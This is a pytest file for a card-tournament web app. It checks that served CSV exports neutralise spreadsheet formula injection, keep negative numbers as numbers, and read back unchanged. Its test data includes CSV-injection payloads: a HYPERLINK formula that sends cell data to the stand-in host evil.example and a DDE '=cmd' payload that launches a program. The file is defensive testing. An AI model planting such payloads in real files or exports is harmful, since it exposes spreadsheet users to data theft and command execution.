"""Served CSV opens in a spreadsheet as data, never as a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from api.tournament_logic import exchange
from rules_engine import csv_safety
from tests.conftest import bearer, make_director, start_table

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Anna")', "+1+1", "@SUM(1)", "-2+3",
            "=cmd|' /C calc'!A0", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_a_spreadsheet_would_run_gets_a_quote(text):
    assert csv_safety.cell(text) == "'" + text
    assert csv_safety.restore(csv_safety.cell(text)) == text


@pytest.mark.parametrize("value", [-12, -2.5, 0, 7, 3.25])
def test_numbers_stay_numbers(value):
    assert csv_safety.cell(value) == value


@pytest.mark.parametrize("text", ["Anna", "", "'", "'=x", "''+y", "a=b", "O'Brien", "-"])
def test_every_text_reads_back_as_it_was(text):
    assert csv_safety.restore(csv_safety.cell(text)) == text
    if text.startswith("'") and text.lstrip("'")[:1] in ("=", "+"):
        assert csv_safety.cell(text) == "'" + text


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_protokoll_csv_neutralises_player_names(client):
    players = ['=HYPERLINK("http://evil.example","x")', "+1+1", "@SUM(1)", "-Bo"]
    table = start_table(client, players=players)
    table.ok({"type": "result", "bids": ["smyga", 3, "smyga", "smyga"], "tricks": [1, 4, 1, 0]})
    response = table.get("/protokoll?format=csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = _rows(response.get_data(as_text=True))
    assert rows[0][3:] == ["'" + name for name in players]
    assert all(not cell.startswith(csv_safety.TRIGGERS) for row in rows for cell in row
               if not cell.lstrip("-").isdigit())
    assert [int(cell) for cell in rows[-1][3:]] == [12, 8, 12, 12]


def test_the_tournament_csvs_neutralise_names_and_keep_negative_numbers(client):
    director = make_director(client)
    headers = bearer(director["token"])
    names = ["=1+2", "+SUM(A1)", "@cmd", "-Ada"] + [f"Spelare {n}" for n in range(5, 9)]
    created = client.post("/api/tournaments", headers=headers, json={
        "name": "=Cupen", "game": "rodskagg", "rounds": 2,
        "players": [{"name": name, "club": "=Klubb" if n % 2 else "Slite"}
                    for n, name in enumerate(names, start=1)]})
    assert created.status_code == 201, created.json
    tid = created.json["id"]
    assert client.post(f"/api/tournaments/{tid}/adjustments", headers=headers, json={
        "player": 1, "points": -2, "reason": "=straff"}).status_code == 201
    text = client.get(f"/api/tournaments/{tid}/standings.csv").get_data(as_text=True)
    rows = _rows(text)
    header = rows[0]
    by_number = {int(row[header.index("number")]): row for row in rows[1:]}
    assert by_number[1][header.index("name")] == "'=1+2"
    assert by_number[1][header.index("club")] == "'=Klubb"
    assert by_number[1][header.index("adjustment")] == "-2"  # a number stays a number
    assert by_number[4][header.index("name")] == "'-Ada"
    read = {row["number"]: row for row in exchange.read_standings_csv(text)}
    assert [read[n]["name"] for n in range(1, 9)] == names
    assert read[1]["club"] == "=Klubb" and read[1]["adjustment"] == -2
    # The protokolls CSV after a seated, played round: names neutralised there too.
    seated = client.post(f"/api/tournaments/{tid}/rounds", headers=headers,
                         json={"method": "random", "seed": 3})
    assert seated.status_code == 201, seated.json
    for table in seated.json["tables"]:
        n = len(table["seats"])
        response = client.post(f"/api/tables/{table['table_id']}/events", headers=headers,
                               json={"based_on": 0, "client_event_id": "r",
                                     "event": {"type": "result", "bids": ["smyga"] * n,
                                               "tricks": [1] * n}})
        assert response.status_code in (201, 422), response.json
    text = client.get(f"/api/tournaments/{tid}/protokolls.csv",
                      headers=headers).get_data(as_text=True)
    for row in _rows(text)[1:]:
        assert not row[8].startswith(csv_safety.TRIGGERS), row
    read_back = exchange.read_protokolls_csv(text)
    assert {name for table in read_back.values() for name in table["players"]} <= set(names)
